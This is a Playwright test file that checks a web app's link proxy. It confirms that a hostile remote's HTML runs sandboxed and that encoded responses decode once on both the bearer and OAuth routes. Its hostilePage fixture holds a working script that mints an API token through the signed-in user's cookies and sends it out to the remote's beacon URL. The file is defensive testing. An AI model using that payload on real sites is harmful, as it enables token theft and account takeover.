/**
 * A remote's bytes are never this app's page (issue 10, findings 1 and 7), checked against the
 * real server: a hostile remote's HTML opened through the proxy in a signed-in browser runs no
 * script and reaches no API; and an encoded answer reaches the caller decodable exactly once, on
 * the direct route (bearer token) and on the Next.js route (a linked application's OAuth call).
 */
import crypto from "node:crypto";
import http from "node:http";
import type { AddressInfo } from "node:net";
import zlib from "node:zlib";
import { expect, test } from "@playwright/test";
import { signRequest } from "../lib/oauth1/sign-request";
import { ADMIN, cliToken, E2E_DATA, rawRequest, screenshot, signInOk } from "./helpers";

const PAYLOAD = JSON.stringify({ hello: "world", padding: "x".repeat(4000) });
const consumer = { key: `e2e:proxied-content-${Date.now()}`, ...crypto.generateKeyPairSync("rsa", { modulusLength: 2048 }) };
const beacons: string[] = [];
let remote: http.Server;
let remoteUrl: string;
let token: string;
let linkId: string;

/** What a hostile remote serves: a page whose script steals an API token and sends it home. */
function hostilePage(home: string) {
  return `<!doctype html><html><head><title>Remote page</title></head><body>
<p id="status">The remote's script did not run.</p>
<script>
  document.getElementById("status").textContent = "The remote's script ran.";
  fetch("/api/v1/tokens", { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: JSON.stringify({ name: "stolen-by-remote" }) })
    .then((r) => r.text())
    .then((t) => { document.title = "stolen"; new Image().src = "${home}/beacon?" + encodeURIComponent(t); })
    .catch((e) => { new Image().src = "${home}/beacon?failed=" + encodeURIComponent(String(e)); });
</script></body></html>`;
}

test.beforeAll(async ({ baseURL }) => {
  remote = http.createServer((req, res) => {
    const url = new URL(req.url!, "http://remote");
    if (url.pathname.startsWith("/beacon")) {
      beacons.push(url.search);
      return void res.writeHead(204).end();
    }
    if (url.pathname.endsWith("/page")) {
      return void res
        .writeHead(200, {
          "content-type": "text/html; charset=utf-8",
          "content-security-policy": "default-src * 'unsafe-inline'",
          "x-frame-options": "ALLOWALL",
          "access-control-allow-origin": "*",
          "set-cookie": "remote=1; Path=/",
        })
        .end(hostilePage(remoteUrl));
    }
    const coding = url.pathname.split("/").pop()!;
    const body = coding === "gzip" ? zlib.gzipSync(PAYLOAD) : coding === "br" ? zlib.brotliCompressSync(PAYLOAD) : Buffer.from(PAYLOAD);
    res.writeHead(200, { "content-type": "application/json", "content-length": body.length, ...(coding === "identity" ? {} : { "content-encoding": coding }) }).end(body);
  });
  await new Promise<void>((resolve) => remote.listen(0, "127.0.0.1", resolve));
  remoteUrl = `http://127.0.0.1:${(remote.address() as AddressInfo).port}`;

  token = cliToken(E2E_DATA, ADMIN.username);
  const api = async (method: string, path: string, body: unknown) => {
    const res = await rawRequest(baseURL!, method, path, { authorization: `Bearer ${token}`, "content-type": "application/json" }, JSON.stringify(body));
    expect(res.status, res.body.toString()).toBeLessThan(300);
    return JSON.parse(res.body.toString());
  };
  linkId = (await api("POST", "/api/v1/links", { name: "Hostile remote", type: "generic", rpcUrl: remoteUrl })).id;
  // No signing outward (the remote is not an OAuth peer); a linked application may call in as the admin.
  await api("PUT", `/api/v1/links/${linkId}/outgoing`, { threeLegged: false, twoLegged: false, impersonation: false });
  await api("PUT", `/api/v1/links/${linkId}/incoming`, {
    consumerKey: consumer.key,
    consumerName: "Hostile remote",
    publicKey: consumer.publicKey.export({ type: "spki", format: "pem" }),
    threeLegged: false,
    twoLegged: true,
    executeAs: ADMIN.username,
    impersonation: false,
  });
});

test.afterAll(() => remote?.close());

test("a remote's HTML opened through the proxy runs sandboxed: no script, no API, no token", async ({ page, baseURL }) => {
  await signInOk(page, ADMIN.username, ADMIN.password);
  const tokensBefore = (await rawRequest(baseURL!, "GET", "/api/v1/tokens", { authorization: `Bearer ${token}` })).body.toString();

  const response = await page.goto(`/api/v1/links/${linkId}/proxy/page`);
  expect(response!.status()).toBe(200);
  const headers = response!.headers();
  expect(headers["content-security-policy"]).toBe("sandbox; default-src 'none'; frame-ancestors 'none'");
  expect(headers["x-frame-options"]).toBe("DENY");
  expect(headers["access-control-allow-origin"]).toBeUndefined();
  expect(headers["set-cookie"]).toBeUndefined();
  // The remote's text is shown, its script is not run.
  await expect(page.getByText("The remote's script did not run.")).toBeVisible();
  await page.waitForTimeout(500);
  await expect(page).toHaveTitle("Remote page");
  await screenshot(page, "proxied-page-sandboxed");
  expect(beacons).toEqual([]);
  const tokensAfter = (await rawRequest(baseURL!, "GET", "/api/v1/tokens", { authorization: `Bearer ${token}` })).body.toString();
  expect(tokensAfter).not.toContain("stolen-by-remote");
  expect(JSON.parse(tokensAfter).tokens).toHaveLength(JSON.parse(tokensBefore).tokens.length);
});

for (const coding of ["gzip", "br", "identity"]) {
  test(`a ${coding} answer reaches the caller decodable exactly once, on both proxy routes`, async ({ baseURL }) => {
    const path = `/api/v1/links/${linkId}/proxy/encoded/${coding}`;
    const direct = await rawRequest(baseURL!, "GET", path, { authorization: `Bearer ${token}`, "accept-encoding": "gzip, br" });
    const signed = await signRequest({ method: "GET", url: `${baseURL}${path}` }, { key: consumer.key, privateKey: consumer.privateKey });
    const delegated = await rawRequest(baseURL!, "GET", path, { authorization: signed.authorization, "accept-encoding": "gzip, br" });
    for (const [route, res] of [["direct (bearer)", direct], ["Next.js (OAuth)", delegated]] as const) {
      expect(res.status, `${route}: ${res.body.toString().slice(0, 200)}`).toBe(200);
      const said = res.headers["content-encoding"];
      const decoded = said === "gzip" ? zlib.gunzipSync(res.body) : said === "br" ? zlib.brotliDecompressSync(res.body) : res.body;
      expect({ route, body: decoded.toString() }).toEqual({ route, body: PAYLOAD });
      expect(res.headers["content-security-policy"]).toContain("sandbox");
    }
  });
}
